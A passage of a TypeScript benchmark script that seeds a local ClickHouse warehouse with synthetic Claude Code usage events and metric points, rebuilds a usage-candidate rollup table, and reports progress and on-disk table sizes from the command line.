 * points of sessions (or, without session.id, user-days) no api_request event covers. Each chunk holds its
 * sessions' events and points together, so marking them at the end gives what the writer would have; the
 * candidates' rollup is then filled by its own view's SELECT (read from the engine, as the rebuild does).
 */
async function markCandidates(client: Warehouse): Promise<void> {
  await client.command({
    query: `ALTER TABLE metric_points UPDATE usage_candidate = 1
      WHERE metric_name IN ('claude_code.cost.usage', 'claude_code.token.usage') AND usage_candidate = 0
        AND if(session_id != '', session_id NOT IN (SELECT session_id FROM usage_event_coverage),
               (user_key, toDate(timestamp)) NOT IN (SELECT user_key, day FROM usage_event_coverage))`,
    clickhouse_settings: { mutations_sync: '2' },
  })
  const view = (await allViews(client)).find((v) => v.target === 'usage_metric_candidates_15m')
  if (!view) throw new Error('the view into usage_metric_candidates_15m is missing (migration 0010)')
  await client.command({ query: 'TRUNCATE TABLE usage_metric_candidates_15m' })
  await client.command({ query: `INSERT INTO usage_metric_candidates_15m (${view.columns.join(', ')}) ${view.select}` })
}

export async function seedWarehouse(client: Warehouse, options: SeedOptions): Promise<SeedResult> {
  const totalEvents = positiveInt('events', options.events)
  const users = positiveInt('users', options.users ?? 500)
  const days = positiveInt('days', options.days ?? 30)
  const seed = Math.trunc(options.seed ?? 1)
  if (!Number.isSafeInteger(seed) || seed < 0) throw new Error(`seed must be a non-negative integer (got ${options.seed})`)
  const chunkRows = positiveInt('chunkRows', options.chunkRows ?? 500_000)
  const endMs = (options.end ?? new Date()).getTime()
  if (!Number.isFinite(endMs)) throw new Error('end is not a valid date')
  const startMs = endMs - days * 86_400_000

  const plan: Plan = {
    seed,
    users,
    totalEvents,
    sessions: 2 * Math.ceil(totalEvents / BLOCK),
    startMs,
    endMs,
    quantiles: `[${activityQuantiles(startMs, endMs, seed)
      .map((x) => x.toFixed(5))
      .join(',')}]`,
  }

  const started = performance.now()
  let metricPoints = 0
  for (let from = 0; from < totalEvents; from += chunkRows) {
    const to = Math.min(totalEvents, from + chunkRows)
    await client.command({ query: eventsInsert(plan, from, to - from) })
    // Metric point m belongs to event 4m: this chunk's points are those with 4m in [from, to).
    const mFrom = Math.ceil(from / 4)
    const mTo = Math.ceil(to / 4)
    if (mTo > mFrom) {
      await client.command({ query: metricsInsert(plan, mFrom, mTo - mFrom) })
      metricPoints += mTo - mFrom
    }
    options.onProgress?.(to, totalEvents)
  }
  await markCandidates(client)
  return { events: totalEvents, metricPoints, seconds: (performance.now() - started) / 1000 }
}

// ---------------------------------------------------------------------------------------------------
// CLI

interface PartsRow {
  table: string
  rows: string
  parts: string
  bytes: string
  uncompressed: string
}

function mib(bytes: number): string {
  return `${(bytes / 1024 / 1024).toFixed(1)} MiB`
}

function intArg(name: string, value: string | undefined, fallback?: number): number | undefined {
  if (value === undefined) return fallback
  const n = Number(value.replace(/_/g, ''))
  if (!Number.isInteger(n) || n <= 0) throw new Error(`--${name} must be a positive integer (got ${JSON.stringify(value)})`)
  return n
}

async function main(): Promise<void> {
  const { values } = parseArgs({
    options: {
      events: { type: 'string' },
      users: { type: 'string' },
      days: { type: 'string' },
      'data-dir': { type: 'string' },
      seed: { type: 'string' },
      chunk: { type: 'string' },
      end: { type: 'string' },
    },
    strict: true,
  })
  const events = intArg('events', values.events)
  if (events === undefined) {
    process.stderr.write(
      'usage: tsx bench/seed.ts --events N [--users 500] [--days 30] [--data-dir ./data-bench] [--seed 1] [--chunk 500000] [--end ISO-8601]\n',
    )
    process.exit(2)
  }
  const end = values.end === undefined ? new Date() : new Date(values.end)
  if (Number.isNaN(end.getTime())) throw new Error(`--end must be an ISO 8601 date (got ${JSON.stringify(values.end)})`)
  const dataDir = path.resolve(values['data-dir'] ?? './data-bench')
  // The embedded engine under the data directory, laid out as `npm start` lays it out with CCSCOPE_DATA_DIR.
  const config = loadConfig({ CCSCOPE_DATA_DIR: dataDir })
  const client = await openWarehouse(config.clickhouse)
  try {
    const report = await migrate(client)
    process.stdout.write(
      `warehouse ${config.clickhouse.mode === 'embedded' ? config.clickhouse.path : ''}: ` +
        `${report.applied.length} migration(s) applied, ${report.alreadyApplied} already applied\n`,
    )
    const before = await selectRows<{ n: string }>(client, 'SELECT count() AS n FROM events')
    if (Number(before[0]?.n ?? 0) > 0)
      process.stdout.write(`note: events already holds ${before[0]?.n} rows; the same seed writes the same ids again\n`)

    const t0 = performance.now()
    let last = t0
    let lastDone = 0
    const result = await seedWarehouse(client, {
      events,
      users: intArg('users', values.users),
      days: intArg('days', values.days),
      seed: values.seed === undefined ? undefined : Number(values.seed),
      chunkRows: intArg('chunk', values.chunk),
      end,
      onProgress: (done, totalRows) => {
        const now = performance.now()
        const rate = ((done - lastDone) / (now - last)) * 1000
        process.stdout.write(
          `${done.toLocaleString('en-US')} / ${totalRows.toLocaleString('en-US')} events ` +
            `(${((100 * done) / totalRows).toFixed(1)}%)  ${Math.round(rate).toLocaleString('en-US')} events/s  ` +
            `${((now - t0) / 1000).toFixed(1)} s\n`,
        )
        last = now
        lastDone = done
      },
    })

    const parts = await selectRows<PartsRow>(
      client,
      `SELECT table, sum(rows) AS rows, count() AS parts, sum(bytes_on_disk) AS bytes, sum(data_uncompressed_bytes) AS uncompressed
       FROM system.parts WHERE database = currentDatabase() AND active GROUP BY table ORDER BY table`,
    )
    process.stdout.write(
      `done: ${result.events.toLocaleString('en-US')} events + ${result.metricPoints.toLocaleString('en-US')} metric points ` +
        `in ${result.seconds.toFixed(1)} s (${Math.round(result.events / result.seconds).toLocaleString('en-US')} events/s)\n`,
    )
    let all = 0
    for (const row of parts) {
      const bytes = Number(row.bytes)
      const rows = Number(row.rows)
      all += bytes
      if (row.table !== 'events' && row.table !== 'metric_points') continue
      process.stdout.write(
        `  ${row.table}: ${rows.toLocaleString('en-US')} rows, ${row.parts} parts, ${mib(bytes)} on disk ` +
          `(${rows > 0 ? (bytes / rows).toFixed(1) : '0'} B/row, ${mib(Number(row.uncompressed))} uncompressed)\n`,
      )
    }
    process.stdout.write(`  all tables (raw + rollups): ${mib(all)} on disk\n`)
  } finally {
    await client.close()
  }
}

const invoked = process.argv[1]
if (invoked !== undefined && import.meta.url === pathToFileURL(path.resolve(invoked)).href) {
  main().catch((error: unknown) => {
    process.stderr.write(`seed failed: ${error instanceof Error ? (error.stack ?? error.message) : String(error)}\n`)
    process.exit(1)
  })
}
